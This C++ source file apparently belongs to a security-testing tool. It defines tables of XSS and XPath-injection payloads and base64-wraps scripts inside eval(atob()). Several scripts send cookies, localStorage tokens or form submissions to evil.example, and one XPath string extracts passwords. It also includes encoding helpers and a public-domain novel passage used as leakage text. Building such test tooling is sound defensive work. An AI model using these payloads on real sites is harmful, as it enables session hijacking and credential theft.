#include "xmlad/payloads.hpp"

#include <openssl/evp.h>

#include <cctype>

namespace xmlad::payloads {

const std::vector<std::string>& xss() {
  static const std::vector<std::string> table = {
      "<script>alert('XSS')</script>",
      "<script>document.location='http://evil.example/?c='+document.cookie</script>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(document.domain)>",
      "<body onload=alert('XSS')>",
      "<iframe src=\"javascript:alert(1)\"></iframe>",
      "\"><script>alert(String.fromCharCode(88,83,83))</script>",
      "<a href=\"javascript:alert(1)\">click</a>",
      "<div style=\"background:url(javascript:alert(1))\">",
      "';alert(1);//",
  };
  return table;
}

const std::vector<std::string>& xpath() {
  static const std::vector<std::string> table = {
      "' or '1'='1",
      "' or ''='",
      "x' or 1=1 or 'x'='y",
      "admin' or '1'='1' or 'a'='a",
      "'] | //* | //*['",
      "' or count(/*)=1 or 'a'='b",
      "' or string-length(name(/*[1]))=5 or 'a'='b",
      "' or substring(//user[1]/password,1,1)='a' or 'a'='b",
      "' and count(/child::node())>0 and 'a'='a",
      "1 or 1=1",
  };
  return table;
}

const std::vector<std::string>& cdata_scripts() {
  static const std::vector<std::string> table = {
      "alert(document.cookie)",
      "new Image().src='http://evil.example/steal?c='+encodeURIComponent(document.cookie)",
      "document.forms[0].action='http://evil.example/collect'",
      "fetch('http://evil.example/x',{method:'POST',body:localStorage.getItem('token')})",
  };
  return table;
}

std::string cdata_payload(std::size_t index) {
  const auto& scripts = cdata_scripts();
  return "<script>eval(atob('" + base64(scripts[index % scripts.size()]) + "'))</script>";
}

std::string percent_encode(std::string_view raw) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : raw) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out.push_back(static_cast<char>(c));
    } else {
      out.push_back('%');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 0xF]);
    }
  }
  return out;
}

std::string base64(std::string_view raw) {
  std::string out(4 * ((raw.size() + 2) / 3) + 1, '\0');
  const int n = EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
                                reinterpret_cast<const unsigned char*>(raw.data()), static_cast<int>(raw.size()));
  out.resize(static_cast<std::size_t>(n));
  return out;
}

std::string_view leakage_text() {
  static constexpr std::string_view kText =
      "Dorothy lived in the midst of the great Kansas prairies, with Uncle Henry, who was a farmer, and Aunt Em, "
      "who was the farmer's wife. Their house was small, for the lumber to build it had to be carried by wagon "
      "many miles. There were four walls, a floor and a roof, which made one room; and this room contained a "
      "rusty looking cookstove, a cupboard for the dishes, a table, three or four chairs, and the beds. Uncle "
      "Henry and Aunt Em had a big bed in one corner, and Dorothy a little bed in another corner. There was no "
      "garret at all, and no cellar except a small hole dug in the ground, called a cyclone cellar, where the "
      "family could go in case one of those great whirlwinds arose, mighty enough to crush any building in its "
      "path. It was reached by a trap door in the middle of the floor, from which a ladder led down into the "
      "small, dark hole. When Dorothy stood in the doorway and looked around, she could see nothing but the "
      "great gray prairie on every side. Not a tree nor a house broke the broad sweep of flat country that "
      "reached to the edge of the sky in all directions. The sun had baked the plowed land into a gray mass, "
      "with little cracks running through it. Even the grass was not green, for the sun had burned the tops of "
      "the long blades until they were the same gray color to be seen everywhere. Once the house had been "
      "painted, but the sun blistered the paint and the rains washed it away, and now the house was as dull and "
      "gray as everything else. When Aunt Em came there to live she was a young, pretty wife. The sun and wind "
      "had changed her, too. They had taken the sparkle from her eyes and left them a sober gray; they had taken "
      "the red from her cheeks and lips, and they were gray also. She was thin and gaunt, and never smiled now. "
      "When Dorothy, who was an orphan, first came to her, Aunt Em had been so startled by the child's laughter "
      "that she would scream and press her hand upon her heart whenever Dorothy's merry voice reached her ears; "
      "and she still looked at the little girl with wonder that she could find anything to laugh at. Uncle "
      "Henry never laughed. He worked hard from morning till night and did not know what joy was. He was gray "
      "also, from his long beard to his rough boots, and he looked stern and solemn, and rarely spoke. It was "
      "Toto that made Dorothy laugh, and saved her from growing as gray as her other surroundings. Toto was not "
      "gray; he was a little black dog, with long silky hair and small black eyes that twinkled merrily on "
      "either side of his funny, wee nose. Toto played all day long, and Dorothy played with him, and loved him "
      "dearly. Today, however, they were not playing. Uncle Henry sat upon the doorstep and looked anxiously at "
      "the sky, which was even grayer than usual. Dorothy stood in the door with Toto in her arms, and looked "
      "at the sky too. Aunt Em was washing the dishes. From the far north they heard a low wail of the wind, "
      "and Uncle Henry and Dorothy could see where the long grass bowed in waves before the coming storm. There "
      "now came a sharp whistling in the air from the south, and as they turned their eyes that way they saw "
      "ripples in the grass coming from that direction also. Suddenly Uncle Henry stood up. \"There's a cyclone "
      "coming, Em,\" he called to his wife. \"I'll go look after the stock.\" Then he ran toward the sheds where "
      "the cows and horses were kept. Aunt Em dropped her work and came to the door. One glance told her of the "
      "danger close at hand. \"Quick, Dorothy!\" she screamed. \"Run for the cellar!\"";
  return kText;
}

std::vector<std::string> split_sentences(std::string_view text) {
  std::vector<std::string> out;
  auto push = [&](std::string_view s) {
    const auto b = s.find_first_not_of(" \t\r\n");
    if (b == std::string_view::npos) return;
    const auto e = s.find_last_not_of(" \t\r\n");
    out.emplace_back(s.substr(b, e - b + 1));
  };
  std::size_t start = 0;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (c != '.' && c != '!' && c != '?') continue;
    std::size_t end = i + 1;
    while (end < text.size() && (text[end] == '"' || text[end] == '\'')) ++end;
    if (end == text.size() || std::isspace(static_cast<unsigned char>(text[end]))) {
      push(text.substr(start, end - start));
      start = end;
      i = end - 1;
    }
  }
  push(text.substr(start));
  return out;
}

}  // namespace xmlad::payloads
